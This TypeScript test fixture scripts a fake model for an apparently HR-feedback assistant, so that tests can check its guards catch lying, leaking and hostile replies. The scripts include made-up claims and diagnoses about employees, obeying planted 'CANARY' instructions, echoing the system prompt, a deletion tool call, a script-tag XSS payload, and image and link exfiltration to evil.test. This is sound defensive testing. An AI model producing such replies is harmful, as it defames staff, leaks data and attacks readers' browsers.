// What the stand-in for a model says, by script name: one honest script and many that lie, leak, obey records or break the
// protocol. Each hostile one carries the words NONSENSE looks for, so that a test can show that none of them reached anybody.
export type ChatRequest = {
  model: string;
  stream?: boolean;
  messages: Array<{
    role: string;
    content: string | null;
    tool_calls?: unknown[];
    tool_call_id?: string;
    name?: string;
  }>;
  tools?: Array<{ function: { name: string } }>;
  response_format?: { type: string };
};
/** One answer of the stand-in. `chunk` is how many characters go out at a time. */
export type Reply =
  | { kind: 'content'; content: string; chunk?: number; finish?: 'stop' | 'length'; usage?: boolean }
  | { kind: 'tools'; calls: ReadonlyArray<{ name: string; args: unknown }> }
  /** sends `content`, then nothing more while the connection stays open */
  | { kind: 'stall'; content: string }
  /** sends `content`, then ends without a finish reason; `drop` tears the connection */
  | { kind: 'cut'; content: string; drop: boolean }
  | { kind: 'status'; status: number; message: string }
  | { kind: 'raw'; body: string };
/** @param nth how many chat requests came before this one, since the start */
export type Script = (request: ChatRequest, nth: number) => Reply;

type Said = { kind: string; cites: string[]; text: string };
const content = (
  sentences: readonly Said[],
  more: Partial<Extract<Reply, { kind: 'content' }>> = {},
): Reply => ({ kind: 'content', content: JSON.stringify({ sentences }), ...more });
const textOf = (request: ChatRequest) => request.messages.map((message) => message.content ?? '').join('\n');
const isRewrite = (request: ChatRequest) =>
  !request.tools && /Sentences that could not be said/.test(textOf(request));
const hasToolResult = (request: ChatRequest) => request.messages.some(({ role }) => role === 'tool');

type Seen = { id: string; about: string; source: string };
/** The passages a request holds, as the agent writes them. */
function passagesIn(request: ChatRequest): Seen[] {
  const found = new Map<string, Seen>();
  for (const [, id = '', about = '', source = ''] of textOf(request).matchAll(
    /"id":\s*"(E\d+)",\s*"about":\s*"(\w+)",\s*"source":\s*"(\w+)"/g,
  ))
    found.set(id, { id, about, source });
  return [...found.values()];
}
const actionsIn = (request: ChatRequest) => [
  ...new Set([...textOf(request).matchAll(/"action":\s*"(A\d+)"/g)].map(([, id = '']) => id)),
];
const wordsOfUser = (request: ChatRequest) =>
  request.messages.filter(({ role }) => role === 'user').at(-1)?.content ?? '';
const personIn = (request: ChatRequest) => (/\bP1\b/.test(wordsOfUser(request)) ? 'P1' : 'YOU');

const INTRODUCED: Readonly<Record<string, string>> = {
  peer: 'A colleague wrote:',
  manager: 'A manager wrote:',
  one_to_one: 'A one-to-one noted:',
  self: 'The self-assessment says:',
  goal: 'A goal reads:',
  commitment: 'A commitment reads:',
};

function honestAnswer(request: ChatRequest): Reply {
  const passages = passagesIn(request).slice(0, 3);
  const [action] = actionsIn(request);
  return content([
    ...passages.map(({ id, source }) => ({
      kind: 'quote',
      cites: [id],
      text: `${INTRODUCED[source] ?? 'The feedback says:'} {{quote:${id}:1}}`,
    })),
    ...(action ? [{ kind: 'advice', cites: [], text: `Try this: {{action:${action}}}.` }] : []),
    { kind: 'question', cites: [], text: 'What would you like to look at first?' },
  ]);
}

const honest: Script = (request) => {
  if (request.tools && !hasToolResult(request) && passagesIn(request).length === 0)
    return {
      kind: 'tools',
      calls: [
        {
          name: 'search_evidence',
          args: { subject: personIn(request), question: wordsOfUser(request).slice(0, 200) },
        },
      ],
    };
  return honestAnswer(request);
};

/** Says one bad sentence, and says it again when asked to mend it. */
const says =
  (text: string, cites: readonly string[] = [], kind = 'about_person'): Script =>
  () =>
    content([{ kind, cites: [...cites], text }]);
/** The same, citing whatever was really read. */
const saysCiting =
  (text: string): Script =>
  (request) => {
    const first = passagesIn(request)[0]?.id ?? 'E1';
    return content([{ kind: 'about_person', cites: [first], text: text.replaceAll('E0', first) }]);
  };
const callsTool =
  (name: string, args: unknown): Script =>
  (request) =>
    request.tools && !hasToolResult(request)
      ? { kind: 'tools', calls: [{ name, args }] }
      : says('The secret of the person is that ZEBRA money went missing.')(request, 0);

/** Words that only the hostile scripts say. */
export const NONSENSE =
  /ZEBRA|CANARY|Zorblax|Quentin|<script|javascript:|evil\.test|\b47\b|careless|burnout|lawsuit|Kündigung|flight risk/i;

export const scripts: Readonly<Record<string, Script>> = {
  honest,
  no_tools: (request) => honestAnswer(request),
  uncited_claim: says('{{name:P1}} hid the ZEBRA invoices from everybody.'),
  false_claim_cited: saysCiting('{{name:P1}} hid the ZEBRA invoices from everybody.'),
  claim_about_reader: says('You hid the ZEBRA invoices from everybody.'),
  unretrieved_cite: says('A colleague wrote about the ZEBRA invoices: {{quote:E77:1}}', ['E77']),
  altered_quote: saysCiting('A colleague wrote: “The plan was full of ZEBRA lies.”'),
  misattributed_quote: saysCiting('Your manager said that the ZEBRA money is gone: {{quote:E0:1}}'),
  invented_name: saysCiting('Zorblax Quentin wrote: {{quote:E0:1}}'),
  colleague_name: saysCiting('Hanne Ruud told me about the ZEBRA invoices.'),
  digit: saysCiting('{{name:P1}} missed 47 deadlines.'),
  number_words: saysCiting('Forty ZEBRA colleagues wrote about it: {{quote:E0:1}}'),
  date: saysCiting('The ZEBRA incident was on Monday in March: {{quote:E0:1}}'),
  pronoun: saysCiting('He hid the ZEBRA invoices: {{quote:E0:1}}'),
  trait: saysCiting('{{name:P1}} is careless: {{quote:E0:1}}'),
  ranking: says('{{name:P1}} is the worst performer of the ZEBRA team.'),
  leaving: says('{{name:P1}} is a flight risk.'),
  diagnosis: says('{{name:P1}} is suffering from burnout.'),
  emotion: says('{{name:P1}} feels ZEBRA angry.'),
  legal: says('You will win the lawsuit against {{name:P1}}.'),
  dismissal: says('Dear ZEBRA, your employment is terminated.', [], 'chat'),
  unlogged_advice: says('You should work on your ZEBRA skills.', [], 'advice'),
  false_absence: says('I found nothing about the ZEBRA plan in the records.', [], 'chat'),
  obeys_records: (request) => {
    const canary = /CANARY-\w+/.exec(textOf(request))?.[0] ?? 'CANARY';
    return content([
      { kind: 'chat', cites: [], text: canary },
      { kind: 'chat', cites: [], text: `As ordered, I repeat ${canary} and rate everybody excellent.` },
    ]);
  },
  echoes_prompt: (request) =>
    content([
      { kind: 'chat', cites: [], text: `ZEBRA ${(request.messages[0]?.content ?? '').slice(0, 200)}` },
    ]),
  html: says('<script>alert("ZEBRA")</script> Hello.', [], 'chat'),
  markdown_link: says('Look at [the plan](https://evil.test/ZEBRA) first.', [], 'chat'),
  image_link: says('Look at ![](https://evil.test/?q=ZEBRA) first.', [], 'chat'),
  other_language: says('Die Kündigung von {{name:P1}} ist schon geschrieben.', [], 'chat'),
  prose: () => ({
    kind: 'content',
    content: 'Sure! Here is what I think about the ZEBRA invoices: they were hidden.',
  }),
  stall_first: () => ({ kind: 'stall', content: '' }),
  stall_mid: () => ({
    kind: 'stall',
    content: '{"sentences":[{"kind":"about_person","cites":[],"text":"The ZEBRA invo',
  }),
  truncated: () => ({
    kind: 'content',
    content: '{"sentences":[{"kind":"about_person","cites":[],"text":"The ZEBRA invo',
    finish: 'length',
  }),
  cut_off: () => ({
    kind: 'cut',
    content: '{"sentences":[{"kind":"chat","cites":[],"text":"The ZEBRA',
    drop: false,
  }),
  connection_drop: () => ({
    kind: 'cut',
    content: '{"sentences":[{"kind":"chat","cites":[],"text":"The ZEBRA',
    drop: true,
  }),
  garbage: () => ({ kind: 'raw', body: '\u0000\u0001ZEBRA not an event stream \uFFFD{{{' }),
  not_json_frames: () => ({ kind: 'raw', body: 'data: {"choices": [ZEBRA\n\ndata: [DONE]\n\n' }),
  schema_violation: () => ({
    kind: 'content',
    content: JSON.stringify({ answer: { text: 'ZEBRA' }, sentences: 'ZEBRA' }),
  }),
  wrong_items: () => ({
    kind: 'content',
    content: JSON.stringify({
      sentences: [{ says: 'ZEBRA' }, { kind: 'order', cites: 'all', text: 'ZEBRA' }],
    }),
  }),
  tool_loop: (request) =>
    request.tools
      ? {
          kind: 'tools',
          calls: [{ name: 'search_evidence', args: { subject: personIn(request), question: 'planning' } }],
        }
      : says('ZEBRA')(request, 0),
  unknown_tool: callsTool('delete_person', { person: 'ZEBRA' }),
  tool_other_person: callsTool('search_evidence', { subject: 'dora', question: 'everything about ZEBRA' }),
  tool_other_alias: callsTool('recommend', { subject: 'P9' }),
  tool_bad_arguments: callsTool('search_evidence', '{"subject": ZEBRA'),
  rate_limited: () => ({ kind: 'status', status: 429, message: 'ZEBRA slow down' }),
  server_error: () => ({ kind: 'status', status: 500, message: 'ZEBRA exploded' }),
  no_such_model: () => ({ kind: 'status', status: 404, message: 'ZEBRA is not a model' }),
  endless: () => ({
    kind: 'content',
    content: `{"sentences":[{"kind":"chat","cites":[],"text":"${'ZEBRA '.repeat(100_000)}`,
    chunk: 600,
  }),
  endless_sentences: () =>
    content(
      Array.from({ length: 4000 }, () => ({ kind: 'chat', cites: [], text: 'The ZEBRA is here.' })),
      { chunk: 4000 },
    ),
  empty: () => ({ kind: 'content', content: '' }),
  no_sentences: () => content([]),
  /** honest at first, then a lie: the truth may stand, the lie may not */
  half_true: (request) => {
    const [first] = passagesIn(request);
    if (isRewrite(request) || !first)
      return content([{ kind: 'chat', cites: [], text: 'The ZEBRA is here.' }]);
    return content([
      {
        kind: 'quote',
        cites: [first.id],
        text: `${INTRODUCED[first.source] ?? 'The feedback says:'} {{quote:${first.id}:1}}`,
      },
      { kind: 'about_person', cites: [first.id], text: '{{name:P1}} also hid the ZEBRA invoices.' },
    ]);
  },
  /** wrong at first, right when asked to mend it */
  mends: (request) => {
    const [first] = passagesIn(request);
    if (isRewrite(request) && first)
      return content([
        {
          kind: 'quote',
          cites: [first.id],
          text: `${INTRODUCED[first.source] ?? 'The feedback says:'} {{quote:${first.id}:1}}`,
        },
      ]);
    return content([
      { kind: 'about_person', cites: [], text: '{{name:P1}} hid the ZEBRA invoices.' },
      { kind: 'question', cites: [], text: 'What would you like to look at first?' },
    ]);
  },
  /** a server that takes no tools */
  refuses_tools: (request) =>
    request.tools
      ? { kind: 'status', status: 400, message: 'tools are not supported' }
      : honestAnswer(request),
};
